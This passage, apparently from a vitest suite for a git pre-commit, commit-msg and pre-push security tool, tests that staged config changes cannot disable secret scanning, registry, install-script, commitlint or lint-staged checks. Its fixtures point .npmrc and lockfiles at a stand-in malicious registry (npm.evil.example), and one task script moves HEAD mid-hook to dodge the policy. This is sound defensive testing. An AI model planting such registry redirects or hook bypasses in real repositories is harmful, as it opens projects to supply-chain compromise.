import { generateKeyPairSync } from "node:crypto";
import { mkdirSync, readFileSync, rmSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { gitRepo, repoRoot, runCli, runCommand } from "../helpers/src/index.js";
import { copiedRepo, EVIL_LEFT_PAD, fakeAwsKey, initRepo, leftPadLock } from "./linked.js";

// What a change may use to switch a check off is read from the trusted side: HEAD for the
// pre-commit and commit-msg hooks, the remote side for pre-push. Real git, real husky hooks, the
// built CLI, a bare remote.

/** Signatures off (no keys in these tests), no protected branch: the secret guard is what is tested. */
const POLICY = (extra = "") =>
  `version: 1\nsignatures:\n  required: false\nhooks:\n  preCommit:\n    lintStaged: false\n  prePush:\n    signatures: false\n${extra}`;

/**
 * init's repository with POLICY(extra) committed through its hooks, once per policy in this file;
 * each test gets a copy. What the hooks keep in .git/rampart (caches, one naming the repository's
 * path) is left out of the copies: a test's first commit starts with none, as in a fresh clone.
 */
async function adopted(extra = "") {
  return copiedRepo(`trusted-policy adopted ${extra}`, async () => {
    const repo = await initRepo("recommended");
    repo.write(".rampart/config.yaml", POLICY(extra));
    await repo.git(["add", "-A"]);
    const first = await repo.gitResult(["commit", "-m", "chore: adopt rampart"]);
    expect(first.exitCode, first.stderr).toBe(0);
    rmSync(repo.path(".git", "rampart"), { recursive: true, force: true });
    return repo;
  });
}

const leak = () => `aws_access_key_id = ${fakeAwsKey()}\n`;

describe("pre-commit: the staged change cannot switch off its own check", () => {
  it("a baseline entry staged together with the secret does not accept it; once committed, it does", async () => {
    const repo = await adopted();
    repo.write("deploy.ini", leak());
    const baseline = await runCli(["secrets", "baseline"], { cwd: repo.dir, env: repo.env });
    expect(baseline.exitCode, baseline.stderr).toBe(0);
    await repo.git(["add", "-A"]);
    const refused = await repo.gitResult(["commit", "-m", "feat: deploy"]);
    expect(refused.exitCode).not.toBe(0);
    expect(refused.stderr).toContain("aws-access-key-id");
    // The baseline on its own is a reviewable commit; after it, the secret it lists is accepted.
    await repo.git(["reset", "-q"]);
    await repo.git(["add", ".rampart/secrets-baseline.json"]);
    expect((await repo.gitResult(["commit", "-m", "chore: accept the deploy key"])).exitCode).toBe(0);
    await repo.git(["add", "deploy.ini"]);
    const accepted = await repo.gitResult(["commit", "-m", "feat: deploy"]);
    expect(accepted.exitCode, accepted.stderr).toBe(0);
  });

  it("ignorePaths, disableRules or the hook toggle staged with the secret do not apply to it", async () => {
    const repo = await adopted();
    const attempts = [
      POLICY("secrets:\n  ignorePaths: ['config/**']\n"),
      POLICY("secrets:\n  disableRules: [aws-access-key-id]\n"),
      POLICY().replace("lintStaged: false", "lintStaged: false\n    secrets: false"),
    ];
    for (const policy of attempts) {
      repo.write(".rampart/config.yaml", policy);
      repo.write("config/deploy.ini", leak());
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: deploy"]);
      expect({ policy, exit: r.exitCode === 0 }).toEqual({ policy, exit: false });
      expect(r.stderr).toContain("aws-access-key-id");
    }
    // The same ignorePaths committed first (its own, reviewable change) applies to the next commit.
    await repo.git(["reset", "-q"]);
    repo.write(".rampart/config.yaml", POLICY("secrets:\n  ignorePaths: ['config/**']\n"));
    await repo.git(["add", ".rampart/config.yaml"]);
    expect((await repo.gitResult(["commit", "-m", "chore: ignore config/"])).exitCode).toBe(0);
    await repo.git(["add", "-A"]);
    const r = await repo.gitResult(["commit", "-m", "feat: deploy"]);
    expect(r.exitCode, r.stderr).toBe(0);
  });

  it("a .gitleaks.toml staged with the secret is not the one that judges it", async () => {
    const repo = await adopted("secrets:\n  failOn: high\n");
    // A rule of the commit's own whose match holds the key block takes the private-key finding
    // inside it, at a custom rule's medium confidence: under failOn high, only a warning.
    const regex = ["'''(?s)# deploy key\\n-----BEGIN.*?-----END[^\\n]*'''"];
    const toml = ["[[rules]]", 'id = "deploy-notes"', `regex = ${regex[0]}`, ""];
    const { privateKey } = generateKeyPairSync("ed25519");
    repo.write(".gitleaks.toml", toml.join("\n"));
    repo.write("deploy/notes.txt", `# deploy key\n${privateKey.export({ type: "pkcs8", format: "pem" })}`);
    await repo.git(["add", "-A"]);
    const r = await repo.gitResult(["commit", "-m", "feat: deploy notes"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain("private-key-pem");
  });

  it("commit-msg: a baseline in the working tree does not accept a key in the message; HEAD's does", async () => {
    const repo = await adopted();
    repo.write("deploy.ini", leak());
    expect((await runCli(["secrets", "baseline"], { cwd: repo.dir, env: repo.env })).exitCode).toBe(0);
    repo.write("deploy.ini", "nothing\n");
    await repo.git(["add", "deploy.ini"]);
    const message = `chore: rotate ${fakeAwsKey()}`;
    const refused = await repo.gitResult(["commit", "-m", message]);
    expect(refused.exitCode).not.toBe(0);
    expect(refused.stderr).toContain("aws-access-key-id");
    expect(refused.stderr).not.toContain(fakeAwsKey());
    await repo.git(["reset", "-q"]);
    await repo.git(["add", ".rampart/secrets-baseline.json"]);
    expect((await repo.gitResult(["commit", "-m", "chore: accept the deploy key"])).exitCode).toBe(0);
    await repo.git(["add", "deploy.ini"]);
    const accepted = await repo.gitResult(["commit", "-m", message]);
    expect(accepted.exitCode, accepted.stderr).toBe(0);
  });

  it("a staged policy can turn a check on at once", async () => {
    const repo = await adopted("  commitMsg:\n    secrets: false\n".replace(/^/, "").trimEnd());
    // HEAD turns the message scan off; the commit that turns it back on is itself checked.
    repo.write(".rampart/config.yaml", POLICY());
    await repo.git(["add", "-A"]);
    const r = await repo.gitResult(["commit", "-m", `chore: key ${fakeAwsKey()}`]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain("aws-access-key-id");
  });
});

describe("pre-commit: package-manager config staged with a lockfile does not excuse it", () => {
  it("registries, builds allowed and scripts off staged in the same commit are HEAD's, not the commit's", async () => {
    const repo = await adopted();
    repo.write(
      "package.json",
      `${JSON.stringify({ name: "shop", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } }, null, 2)}\n`,
    );
    await repo.git(["add", "package.json"]);
    expect((await repo.gitResult(["commit", "-m", "chore: manifest"])).exitCode).toBe(0);
    const evil = { resolved: "https://npm.evil.example/left-pad/-/left-pad-1.3.0.tgz" };
    const attempts: Array<[string, Record<string, string>, Record<string, unknown>, string]> = [
      ["registry in .npmrc", { ".npmrc": "registry=https://npm.evil.example/\n" }, evil, "npm.evil.example"],
      [
        "registry in .yarnrc.yml",
        { ".yarnrc.yml": "npmRegistryServer: https://npm.evil.example\n" },
        evil,
        "npm.evil.example",
      ],
      ["ignore-scripts in .npmrc", { ".npmrc": "ignore-scripts=true\n" }, { hasInstallScript: true }, "install script"],
      [
        "onlyBuiltDependencies in pnpm-workspace.yaml",
        { "pnpm-workspace.yaml": "onlyBuiltDependencies:\n  - left-pad\n" },
        { hasInstallScript: true },
        "install script",
      ],
      [
        "onlyBuiltDependencies in package.json",
        {
          "package.json": `${JSON.stringify({ name: "shop", version: "1.0.0", dependencies: { "left-pad": "1.3.0" }, pnpm: { onlyBuiltDependencies: ["left-pad"] } }, null, 2)}\n`,
        },
        { hasInstallScript: true },
        "install script",
      ],
    ];
    for (const [what, config, entry, finding] of attempts) {
      for (const [file, text] of Object.entries(config)) repo.write(file, text);
      repo.write("package-lock.json", leftPadLock(entry));
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: left-pad"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain(finding);
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // A licence a staged .rampart/licenses.json claims is the commit's own word: HEAD's cache.
    repo.write(".rampart/config.yaml", POLICY("deps:\n  licenses:\n    deny: [GPL-3.0-only]\n"));
    await repo.git(["add", ".rampart/config.yaml"]);
    expect((await repo.gitResult(["commit", "-m", "chore: licence policy"])).exitCode).toBe(0);
    const cache = {
      version: 1,
      registry: "https://registry.npmjs.org/",
      updated: "2026-01-01",
      licenses: { "left-pad@1.3.0": "MIT" },
    };
    repo.write(".rampart/licenses.json", `${JSON.stringify(cache, null, 2)}\n`);
    repo.write("package-lock.json", leftPadLock({ license: undefined }));
    await repo.git(["add", "-A"]);
    const claimed = await repo.gitResult(["commit", "-m", "feat: left-pad"]);
    expect(claimed.exitCode, claimed.stdout + claimed.stderr).not.toBe(0);
    expect(claimed.stdout + claimed.stderr).toContain("deps/license-cache-unverified");
    expect(claimed.stdout + claimed.stderr).toContain("deps/license-unknown");
    await repo.git(["reset", "-q", "--hard", "HEAD"]);
    await repo.git(["clean", "-qfd"]);
    // The registry committed first (its own, reviewable change) applies to the next commit.
    repo.write(".npmrc", "registry=https://npm.evil.example/\n");
    await repo.git(["add", ".npmrc"]);
    expect((await repo.gitResult(["commit", "-m", "chore: registry mirror"])).exitCode).toBe(0);
    repo.write("package-lock.json", leftPadLock(evil));
    await repo.git(["add", "-A"]);
    const accepted = await repo.gitResult(["commit", "-m", "feat: left-pad"]);
    expect(accepted.exitCode, accepted.stdout + accepted.stderr).toBe(0);
  });
});

describe("pre-commit: every read of HEAD is at the commit the policy was read at", () => {
  it("a lint-staged task that moves HEAD does not change what judges the staged lockfile", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    repo.write(
      "package.json",
      `${JSON.stringify({ name: "shop", version: "1.0.0", dependencies: { "left-pad": "1.3.0" } }, null, 2)}\n`,
    );
    repo.write("lint-staged.config.mjs", 'export default { "*.txt": "node move-head.cjs" };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    // A commit no one reviewed (never the branch's), whose .npmrc admits the registry.
    await repo.git(["checkout", "-q", "-b", "side"]);
    repo.write(".npmrc", "registry=https://npm.evil.example/\n");
    await repo.git(["add", ".npmrc"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: mirror"]);
    const side = (await repo.git(["rev-parse", "HEAD"])).trim();
    await repo.git(["checkout", "-q", "-"]);
    // The task runs after the hook read HEAD's policy and before it judges the lockfile.
    repo.write(
      "move-head.cjs",
      `require("node:child_process").execFileSync("git", ["update-ref", "HEAD", ${JSON.stringify(side)}]);\n`,
    );
    repo.write("notes.txt", "notes\n");
    repo.write("package-lock.json", leftPadLock({ resolved: EVIL_LEFT_PAD }));
    await repo.git(["add", "notes.txt", "package-lock.json"]);
    const r = await repo.gitResult(["commit", "-m", "feat: left-pad"]);
    expect(r.exitCode, r.stdout + r.stderr).not.toBe(0);
    expect(r.stdout + r.stderr).toContain("lockfile/disallowed-host");
    // The task did run: HEAD is the side commit now.
    expect((await repo.git(["rev-parse", "HEAD"])).trim()).toBe(side);
  });
});

describe("commit-msg and lint-staged: their configs are HEAD's, as the policy is", () => {
  it("commit-msg: a commitlint config the commit edits or removes does not judge its own message", async () => {
    const repo = await adopted();
    const ignoreAll = 'export default { extends: ["@commitlint/config-conventional"], ignores: [() => true] };\n';
    const attempts: Array<[string, () => Promise<void>]> = [
      ["ignores every message", async () => void repo.write("commitlint.config.mjs", ignoreAll)],
      ["removed", async () => void (await repo.git(["rm", "-q", "commitlint.config.mjs"]))],
      [
        "a data config of higher precedence",
        async () => void repo.write(".commitlintrc.json", '{ "rules": { "header-max-length": [2, "always", 200] } }\n'),
      ],
    ];
    for (const [what, change] of attempts) {
      await change();
      repo.write("notes.txt", `${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "stuff"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stderr, what).toContain("commitlint/type-empty");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // Committed on its own (its message judged by HEAD's config), it judges the next commit.
    repo.write("commitlint.config.mjs", ignoreAll);
    await repo.git(["add", "-A"]);
    const own = await repo.gitResult(["commit", "-m", "chore: accept any message"]);
    expect(own.exitCode, own.stderr).toBe(0);
    repo.write("notes.txt", "next\n");
    await repo.git(["add", "-A"]);
    const next = await repo.gitResult(["commit", "-m", "stuff"]);
    expect(next.exitCode, next.stderr).toBe(0);
  });

  it("commit-msg: HEAD's data config (.commitlintrc.json) judges a commit that turns its rules off", async () => {
    const repo = await adopted();
    await repo.git(["rm", "-q", "commitlint.config.mjs"]);
    repo.write(".commitlintrc.json", '{ "extends": ["@commitlint/config-conventional"] }\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: commitlint as data"]);
    repo.write(
      ".commitlintrc.json",
      '{ "extends": ["@commitlint/config-conventional"], "rules": { "type-empty": [0], "subject-empty": [0] } }\n',
    );
    await repo.git(["add", "-A"]);
    const r = await repo.gitResult(["commit", "-m", "stuff"]);
    expect(r.exitCode).not.toBe(0);
    expect(r.stderr).toContain("commitlint/type-empty");
    expect(r.stderr).toContain("HEAD's .commitlintrc.json");
  });

  it("pre-commit: a lint-staged config the commit empties or removes still runs HEAD's tasks", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    repo.write("fail.cjs", 'console.log("the task refuses"); process.exit(1);\n');
    repo.write("lint-staged.config.mjs", 'export default { "*.js": "node fail.cjs" };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    const attempts: Array<[string, () => Promise<void>]> = [
      ["emptied", async () => void repo.write("lint-staged.config.mjs", "export default {};\n")],
      ["removed", async () => void (await repo.git(["rm", "-q", "lint-staged.config.mjs"]))],
      ["a data config of higher precedence", async () => void repo.write(".lintstagedrc", '{ "*.md": "true" }\n')],
    ];
    for (const [what, change] of attempts) {
      await change();
      repo.write("a.js", `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("lint-staged (your own pre-commit tasks) failed");
      expect(r.stderr, what).toContain("HEAD's lint-staged.config.mjs");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // HEAD's data config (.lintstagedrc.json) too.
    await repo.git(["rm", "-q", "lint-staged.config.mjs"]);
    repo.write(".lintstagedrc.json", '{ "*.js": "node fail.cjs" }\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: lint-staged as data"]);
    await repo.git(["rm", "-q", ".lintstagedrc.json"]);
    repo.write("a.js", "// data\n");
    await repo.git(["add", "-A"]);
    const data = await repo.gitResult(["commit", "-m", "feat: a"]);
    expect(data.exitCode).not.toBe(0);
    expect(data.stdout + data.stderr).toContain("lint-staged (your own pre-commit tasks) failed");
  });

  it("pre-commit: a lint-staged config in a subfolder the commit adds, edits or removes does not judge its files", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    const refuses = "node -e \"console.log('the task refuses'); process.exit(1)\"";
    repo.write("lint-staged.config.mjs", `export default ${JSON.stringify({ "*.js": refuses })};\n`);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: adopt rampart"]);
    // HEAD has none in a subfolder: one added (staged, or only in the working tree) would take
    // src/'s files from HEAD's root config; HEAD's runs alone.
    for (const stage of [true, false]) {
      repo.write("src/.lintstagedrc.json", '{ "*.md": "true" }\n');
      repo.write("src/a.js", "// a\n");
      await repo.git(["add", stage ? "src" : "src/a.js"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ stage, refused: r.exitCode !== 0 }).toEqual({ stage, refused: true });
      expect(r.stdout + r.stderr).toContain("lint-staged (your own pre-commit tasks) failed");
      expect(r.stderr).toContain("src/.lintstagedrc.json differs from HEAD's");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // HEAD has one there: a commit editing or removing it is refused, naming it (lint-staged takes
    // one config object, so HEAD's several cannot be handed to it).
    repo.write("src/.lintstagedrc.json", `${JSON.stringify({ "*.js": refuses })}\n`);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: src tasks"]);
    const attempts: Array<[string, () => Promise<void>]> = [
      ["edited", async () => void repo.write("src/.lintstagedrc.json", '{ "*.md": "true" }\n')],
      ["removed", async () => void (await repo.git(["rm", "-q", "src/.lintstagedrc.json"]))],
    ];
    for (const [what, change] of attempts) {
      await change();
      repo.write("src/a.js", `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stderr, what).toContain(
        "lint-staged did not run: src/.lintstagedrc.json differs from HEAD's, and HEAD's lint-staged configs in subfolders",
      );
      // Bad input, not a finding: the hook exits 2 (husky's wrapper says 1 to git for any refusal).
      const hook = await runCli(["hook", "pre-commit"], { cwd: repo.dir, env: repo.env });
      expect({ what, code: hook.exitCode }).toEqual({ what, code: 2 });
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // Unchanged, HEAD's nested config judges src/'s files as lint-staged finds it.
    repo.write("src/a.js", "// a\n");
    await repo.git(["add", "-A"]);
    const own = await repo.gitResult(["commit", "-m", "feat: a"]);
    expect(own.exitCode).not.toBe(0);
    expect(own.stdout + own.stderr).toContain("the task refuses");
  });

  it("pre-commit: HEAD's module lint-staged configs in subfolders run HEAD's tasks, whatever the commit does to the files they import", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    const refuses = `export default ${JSON.stringify({ "*.js": "node -e \"console.log('the task refuses'); process.exit(1)\"" })};\n`;
    const loose = 'export default { "*.none": "true" };\n';
    // lint-staged finds every folder's config itself and judges each staged file by the nearest:
    // src/'s imports a helper beside it, lib/'s a file of a sibling folder; the package folder's
    // config is a module (init's) or data, whose tasks match nothing here.
    repo.write("lint-staged.config.mjs", loose);
    repo.write("src/lint-staged.config.mjs", 'import tasks from "./helper.mjs";\nexport default tasks;\n');
    repo.write("src/helper.mjs", refuses);
    repo.write("lib/lint-staged.config.mjs", 'import tasks from "../shared/tasks.mjs";\nexport default tasks;\n');
    repo.write("shared/tasks.mjs", refuses);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: tasks in subfolders"]);
    const attempts: Array<[string, string, () => Promise<void>]> = [
      ["the helper edited", "src/a.js", async () => void repo.write("src/helper.mjs", loose)],
      ["the helper renamed", "src/a.js", async () => void (await repo.git(["mv", "src/helper.mjs", "src/h.mjs"]))],
      ["the helper deleted", "src/a.js", async () => void (await repo.git(["rm", "-q", "src/helper.mjs"]))],
      ["the sibling folder's file edited", "lib/a.js", async () => void repo.write("shared/tasks.mjs", loose)],
      [
        "the helper edited, the package folder's config data",
        "src/a.js",
        async () => {
          await repo.git(["rm", "-q", "lint-staged.config.mjs"]);
          repo.write(".lintstagedrc.json", '{ "*.none": "true" }\n');
          await repo.git(["add", "-A"]);
          await repo.git(["commit", "-q", "--no-verify", "-m", "chore: data config"]);
          repo.write("src/helper.mjs", loose);
        },
      ],
    ];
    for (const [what, file, change] of attempts) {
      await change();
      repo.write(file, `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("the task refuses");
      expect(r.stderr, what).toContain("lint-staged (your own pre-commit tasks) failed");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // A staged file no task of its nearest config matches, beside the edited helper: committed.
    repo.write("src/helper.mjs", loose);
    repo.write("src/notes.txt", "notes\n");
    await repo.git(["add", "-A"]);
    const honest = await repo.gitResult(["commit", "-m", "docs: notes"]);
    expect(honest.exitCode, honest.stderr).toBe(0);
    // HEAD's module config in a subfolder that does not load from HEAD's files (it names a file
    // outside the repository) refuses the commit naming it: bad input, exit 2.
    repo.write("lib/lint-staged.config.mjs", 'import tasks from "../../outside/tasks.mjs";\nexport default tasks;\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: tasks from outside"]);
    repo.write("lib/b.js", "// b\n");
    await repo.git(["add", "-A"]);
    const hook = await runCli(["hook", "pre-commit"], { cwd: repo.dir, env: repo.env });
    expect(hook.exitCode).toBe(2);
    expect(hook.stderr).toContain(
      "lint-staged did not run: HEAD's lib/lint-staged.config.mjs does not load from HEAD's files",
    );
  });

  it("pre-commit: a subfolder's lint-staged config with a pattern above its folder takes the package folder's files, as lint-staged gives them", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    rmSync(repo.path("lint-staged.config.mjs")); // init's, not committed yet
    // lint-staged gives a staged file no nearer config holds to the first config with a "../"
    // pattern: a.js, beside the package folder's config whose tasks match nothing, goes to src/'s.
    const tasks = { "../*.js": "node -e \"console.log('the task refuses'); process.exit(1)\"" };
    const shapes: Array<[string, string, string, string]> = [
      ["data", ".lintstagedrc.json", "src/.lintstagedrc.json", `${JSON.stringify(tasks)}\n`],
      ["module", "lint-staged.config.mjs", "src/lint-staged.config.mjs", `export default ${JSON.stringify(tasks)};\n`],
    ];
    for (const [what, top, path, text] of shapes) {
      repo.write(top, top.endsWith(".json") ? '{ "*.none": "true" }\n' : 'export default { "*.none": "true" };\n');
      repo.write(path, text);
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `chore: ${what} config above its folder`]);
      repo.write("a.js", `// ${what}\n`);
      await repo.git(["add", "a.js"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("the task refuses");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["rm", "-q", top, path]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `chore: no ${what} configs`]);
    }
  });

  it("pre-commit: HEAD's lint-staged configs only in subfolders (none in the package folder) run, whatever the commit does to the files they import", async () => {
    const repo = await initRepo("recommended");
    const nm = repo.path("node_modules");
    symlinkSync(join(repoRoot, "bench", "node_modules", "lint-staged"), join(nm, "lint-staged"));
    symlinkSync(join(repoRoot, "bench", "node_modules", ".bin", "lint-staged"), join(nm, ".bin", "lint-staged"));
    repo.write(".rampart/config.yaml", POLICY().replace("lintStaged: false", "lintStaged: true"));
    const refuses = { "*.js": "node -e \"console.log('the task refuses'); process.exit(1)\"" };
    const loose = 'export default { "*.none": "true" };\n';
    // lint-staged itself runs such a layout (it searches the staged files' folders for configs):
    // src/ has a module config importing a helper beside it, lib/ a data config.
    rmSync(repo.path("lint-staged.config.mjs"));
    repo.write("src/lint-staged.config.mjs", 'import tasks from "./helper.mjs";\nexport default tasks;\n');
    repo.write("src/helper.mjs", `export default ${JSON.stringify(refuses)};\n`);
    repo.write("lib/.lintstagedrc.json", `${JSON.stringify(refuses)}\n`);
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: tasks in subfolders only"]);
    const attempts: Array<[string, string, () => void]> = [
      ["the module config as HEAD has it", "src/a.js", () => {}],
      ["the data config as HEAD has it", "lib/a.js", () => {}],
      ["the helper edited", "src/a.js", () => void repo.write("src/helper.mjs", loose)],
    ];
    for (const [what, file, change] of attempts) {
      change();
      repo.write(file, `// ${what}\n`);
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", "feat: a"]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stdout + r.stderr, what).toContain("the task refuses");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
      await repo.git(["clean", "-qfd"]);
    }
    // A staged file no task of its nearest config matches: committed.
    repo.write("src/notes.txt", "notes\n");
    await repo.git(["add", "-A"]);
    const honest = await repo.gitResult(["commit", "-m", "docs: notes"]);
    expect(honest.exitCode, honest.stderr).toBe(0);
  });

  it("commit-msg: HEAD's commitlint config that extends or imports files of its own is loaded with HEAD's files", async () => {
    const repo = await adopted();
    // The config extends a file that imports another: the rules the commit edits live there.
    repo.write("commitlint.config.mjs", 'export default { extends: ["./commitlint/base.mjs"] };\n');
    repo.write(
      "commitlint/base.mjs",
      'import rules from "./rules.mjs";\nexport default { extends: ["@commitlint/config-conventional"], rules };\n',
    );
    repo.write("commitlint/rules.mjs", 'export default { "header-max-length": [2, "always", 20] };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: commitlint rules of our own"]);
    const long = "feat: a subject of more than twenty characters";
    const attempts: Array<[string, () => void]> = [
      ["a rule turned off in the imported file", () => repo.write("commitlint/rules.mjs", "export default {};\n")],
      [
        "the extended file emptied, the config edited",
        () => {
          repo.write("commitlint/base.mjs", "export default {};\n");
          repo.write("commitlint.config.mjs", 'export default { extends: ["./commitlint/base.mjs"], rules: {} };\n');
        },
      ],
    ];
    for (const [what, change] of attempts) {
      change();
      await repo.git(["add", "-A"]);
      const r = await repo.gitResult(["commit", "-m", long]);
      expect({ what, refused: r.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(r.stderr, what).toContain("commitlint/header-max-length");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
    }
    // A config naming a file outside the repository is refused, naming it: never loaded from the copy's place.
    repo.write("commitlint.config.mjs", 'export default { extends: ["../../shared/commitlint.mjs"] };\n');
    await repo.git(["add", "-A"]);
    await repo.git(["commit", "-q", "--no-verify", "-m", "chore: shared rules"]);
    repo.write("commitlint.config.mjs", 'export default { extends: ["@commitlint/config-conventional"] };\n');
    await repo.git(["add", "-A"]);
    const outside = await repo.gitResult(["commit", "-m", "chore: back to the preset"]);
    expect(outside.exitCode).not.toBe(0);
    expect(outside.stderr).toContain("names ../../shared/commitlint.mjs, outside the repository");
    // Bad input, not a finding: the hook exits 2 naming the file the commit changed (husky's
    // wrapper says 1 to git for any refusal); the package's own config judged the message too.
    repo.write(".git/MSG", "chore: back to the preset\n");
    const hook = await runCli(["hook", "commit-msg", ".git/MSG"], { cwd: repo.dir, env: repo.env });
    expect(hook.exitCode).toBe(2);
    expect(hook.stderr).toContain("commitlint did not run: commitlint.config.mjs differs from HEAD's, and HEAD's");
    expect(hook.stderr).toContain("git checkout HEAD -- commitlint.config.mjs");
  });

  it("commit-msg: HEAD's commitlint config extending or importing a workspace package by name judges by HEAD's package", async () => {
    const repo = await adopted();
    // As npm, pnpm and yarn workspaces link it: node_modules/@shop/commitlint -> ../../packages/commitlint.
    const rules = (types: string[]) =>
      `export default { rules: { "type-enum": [2, "always", ${JSON.stringify(types)}] } };\n`;
    repo.write(
      "packages/commitlint/package.json",
      '{ "name": "@shop/commitlint", "version": "1.0.0", "type": "module", "exports": "./index.mjs" }\n',
    );
    repo.write("packages/commitlint/index.mjs", rules(["feat", "fix"]));
    mkdirSync(repo.path("node_modules", "@shop"), { recursive: true });
    symlinkSync("../../packages/commitlint", repo.path("node_modules", "@shop", "commitlint"));
    const shapes: Array<[string, string]> = [
      ["extends", 'export default { extends: ["@shop/commitlint"] };\n'],
      ["import", 'import config from "@shop/commitlint";\nexport default config;\n'],
    ];
    for (const [what, config] of shapes) {
      repo.write("commitlint.config.mjs", config);
      repo.write("packages/commitlint/index.mjs", rules(["feat", "fix"]));
      await repo.git(["add", "-A"]);
      await repo.git(["commit", "-q", "--no-verify", "-m", `chore: commitlint from a workspace package (${what})`]);
      repo.write("notes.md", `${what} 1\n`);
      await repo.git(["add", "-A"]);
      const first = await repo.gitResult(["commit", "-m", "feat: one"]);
      expect(first.exitCode, `${what}: ${first.stderr}`).toBe(0);
      // The commit widens the package's rule: HEAD's judges its message.
      repo.write("packages/commitlint/index.mjs", rules(["feat", "fix", "docs"]));
      await repo.git(["add", "-A"]);
      const widened = await repo.gitResult(["commit", "-m", "docs: two"]);
      expect({ what, refused: widened.exitCode !== 0 }).toEqual({ what, refused: true });
      expect(widened.stderr, what).toContain("commitlint/type-enum");
      await repo.git(["reset", "-q", "--hard", "HEAD"]);
